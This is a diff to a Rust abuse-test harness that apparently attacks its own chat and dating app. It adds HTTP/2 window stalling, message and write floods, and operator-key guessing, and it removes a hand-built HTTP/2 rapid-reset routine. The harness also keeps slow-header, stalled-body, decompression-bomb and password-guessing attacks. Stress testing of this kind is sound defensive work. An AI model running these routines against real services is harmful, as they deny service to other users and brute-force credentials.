@@ -10,7 +10,11 @@ use tokio::{
     time::sleep,
 };
 
-use super::{pictures::Uploads, visitor::Visitor};
+use super::{
+    pictures::Uploads,
+    streams::{leave_pages_unread, reset_streams},
+    visitor::Visitor,
+};
 use crate::account::PASSWORD;
 
 /// One of the pair.
@@ -25,6 +29,8 @@ const CONNECTIONS: usize = 300;
 pub enum Attack {
     /// Asks for the app on hundreds of connections, and reads nothing.
     LeaveAnswersUnread,
+    /// Asks for long pages of messages on many HTTP/2 streams, and opens no window for any.
+    LeavePagesUnread,
     /// Begins the largest sign-ups that are taken and sends no end.
     StallBodies,
     /// Uploads pictures that inflate to hundreds of mebibytes.
@@ -35,6 +41,10 @@ pub enum Attack {
     ReadExportsSlowly,
     FloodComments,
     FloodMoments,
+    /// Sends messages of the greatest length.
+    FloodMessages,
+    /// Writes the profile and the preferences, likes moments, lists photos.
+    FloodWrites,
     /// Reports, skips, marks, blocks and unblocks whoever it is shown.
     FloodReports,
     /// Signs in again and again.
@@ -43,6 +53,8 @@ pub enum Attack {
     ProbeAddresses,
     /// Tries passwords of one of the pair.
     GuessPasswords,
+    /// Tries keys of operators.
+    GuessOperatorKeys,
     /// Sends heads that never end, on hundreds of connections.
     DribbleHeaders,
     /// Opens and resets HTTP/2 streams as fast as it can.
@@ -93,6 +105,10 @@ impl Attack {
     async fn once(self, me: &Visitor, uploads: &Uploads) -> Option<()> {
         match self {
             Self::LeaveAnswersUnread => leave_unread(me.connect().await?).await,
+            Self::LeavePagesUnread => {
+                say_at_length(me).await;
+                leave_pages_unread(me, &room_of(me).await?).await
+            }
             Self::StallBodies => stall(me).await,
             Self::UploadBombs => answered(me.ask("POST", "/api/photos/upload", &uploads.bomb).await),
             Self::UploadLargePictures => answered(me.ask("POST", "/api/photos/upload", &uploads.progressive).await),
@@ -102,18 +118,20 @@ impl Attack {
                 let moment = json!({ "content": "x".repeat(1_000), "audience": "public" });
                 answered(post(me, "/api/moments/create", &moment).await)
             }
+            Self::FloodMessages => say_at_length(me).await,
+            Self::FloodWrites => write(me).await,
             Self::FloodReports => report(me).await,
             Self::GuessPasswords => sign_in(me, VICTIM, "a guess").await,
+            Self::GuessOperatorKeys => answered(me.with_token("a guess").ask("GET", "/api/admin/reports", "").await),
             Self::FloodSessions => sign_in(me, &me.email(), PASSWORD).await,
             Self::ProbeAddresses => probe(me).await,
             Self::DribbleHeaders => dribble(me.connect().await?).await,
             Self::ResetStreams => reset_streams(me.connect().await?).await,
             Self::FloodSignUps => answered(me.ask("POST", "/api/auth/register", &Visitor::registration("nobody-in-particular", &[])).await),
             Self::FloodReads => {
-                for path in ["users/discover", "users/discover/suggestions", "messages/search?q=he", "places?q=be", "moments/list"] {
-                    answered(me.ask("GET", &format!("/api/{path}"), "").await)?;
-                }
-                Some(())
+                let paths = ["users/discover", "users/discover/suggestions", "messages/search?q=he", "places?q=be", "moments/list"];
+                let asked = paths.map(|path| ("GET", format!("/api/{path}"), String::new()));
+                any_answered(me, &asked).await
             }
         }
     }
@@ -156,26 +174,75 @@ async fn sign_in(me: &Visitor, email: &str, password: &str) -> Option<()> {
     answered(post(me, "/api/auth/login", &json!({ "email": email, "password": password })).await)
 }
 
+/// Asks for all of these, whichever are refused; nothing if all are.
+async fn any_answered(me: &Visitor, asked: &[(&str, String, String)]) -> Option<()> {
+    let mut any = None;
+    for (method, path, body) in asked {
+        any = any.or(answered(me.ask(method, path, body).await));
+    }
+    any
+}
+
 async fn probe(me: &Visitor) -> Option<()> {
     let (name, email) = PROBED;
-    answered(me.ask("PUT", "/api/users/me", &json!({ "email": email }).to_string()).await)?;
-    answered(post(me, "/api/auth/forgot-password", &json!({ "email": email })).await)?;
-    answered(me.ask("POST", "/api/auth/register", &Visitor::registration(name, &[])).await)
+    let wanted = json!({ "email": email }).to_string();
+    let asked = [
+        ("PUT", "/api/users/me".to_owned(), wanted.clone()),
+        ("POST", "/api/auth/forgot-password".to_owned(), wanted),
+        ("POST", "/api/auth/register".to_owned(), Visitor::registration(name, &[])),
+    ];
+    any_answered(me, &asked).await
 }
 
 async fn report(me: &Visitor) -> Option<()> {
-    let (_, shown) = me.ask("GET", "/api/users/discover", "").await?;
-    for person in shown["users"].as_array()? {
-        let id = person["id"].as_str()?;
-        for path in
-            [format!("users/{id}/report"), format!("matches/favorite/{id}"), format!("matches/skip/{id}"), format!("users/{id}/block")]
-        {
-            let body = json!({ "reason": "spam", "text": "x".repeat(500) });
-            answered(post(me, &format!("/api/{path}"), &body).await)?;
+    let mut asked = Vec::new();
+    for person in shown_to(me).await? {
+        let body = json!({ "reason": "spam", "text": "x".repeat(500) }).to_string();
+        for path in ["users/{id}/report", "matches/favorite/{id}", "matches/skip/{id}", "users/{id}/block"] {
+            asked.push(("POST", format!("/api/{}", path.replace("{id}", &person)), body.clone()));
         }
-        answered(me.ask("DELETE", &format!("/api/users/{id}/block"), "").await)?;
+        asked.push(("DELETE", format!("/api/users/{person}/block"), String::new()));
     }
-    Some(())
+    any_answered(me, &asked).await
+}
+
+/// The ids of some people.
+async fn shown_to(me: &Visitor) -> Option<Vec<String>> {
+    let (_, shown) = me.ask("GET", "/api/users/discover", "").await?;
+    Some(shown["users"].as_array()?.iter().filter_map(|person| person["id"].as_str().map(str::to_owned)).collect())
+}
+
+/// The room with the first person shown.
+async fn room_of(me: &Visitor) -> Option<String> {
+    let known = me.ask("GET", "/api/messages/rooms?limit=1", "").await?.1["rooms"][0]["id"].as_str().map(str::to_owned);
+    if known.is_some() {
+        return known;
+    }
+    let other = shown_to(me).await?.into_iter().next()?;
+    let (_, opened) = me.ask("POST", &format!("/api/messages/room/user/{other}"), "").await?;
+    opened["room_id"].as_str().map(str::to_owned)
+}
+
+/// Sends messages that JSON writes as six times their length, until that is refused.
+async fn say_at_length(me: &Visitor) -> Option<()> {
+    let path = format!("/api/messages/room/{}/send", room_of(me).await?);
+    let message = json!({ "content": "\u{1}".repeat(5_000), "type": "text" });
+    while answered(post(me, &path, &message).await).is_some() {}
+    None
+}
+
+async fn write(me: &Visitor) -> Option<()> {
+    let (_, listed) = me.ask("GET", "/api/moments/list", "").await?;
+    let about = json!({ "bio": "x".repeat(400) }).to_string();
+    let mut asked = vec![
+        ("PUT", "/api/users/me".to_owned(), about),
+        ("PUT", "/api/users/preferences".to_owned(), json!({ "max_distance": 50 }).to_string()),
+        ("GET", format!("/api/photos/user/{}", me.id), String::new()),
+    ];
+    for moment in listed["moments"].as_array()?.iter().filter_map(|moment| moment["id"].as_str()) {
+        asked.push(("POST", format!("/api/moments/{moment}/like"), String::new()));
+    }
+    any_answered(me, &asked).await
 }
 
 async fn comment(me: &Visitor) -> Option<()> {
@@ -195,17 +262,4 @@ async fn dribble(mut stream: TcpStream) -> Option<()> {
         stream.write_all(b"x-more: of this\r\n").await.ok()?;
         sleep(Duration::from_secs(1)).await;
     }
-}
-
-async fn reset_streams(mut stream: TcpStream) -> Option<()> {
-    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await.ok()?;
-    // GET / of http://kindred
-    let head: &[u8] = b"\x82\x84\x86\x41\x07kindred";
-    for number in (1u32..).step_by(2) {
-        let id = number.to_be_bytes();
-        let begin = [&[0, 0, u8::try_from(head.len()).ok()?, 1, 5], &id[..], head].concat();
-        let reset = [&[0, 0, 4, 3, 0], &id[..], &[0, 0, 0, 8]].concat();
-        stream.write_all(&[begin, reset].concat()).await.ok()?;
-    }
-    None
 }
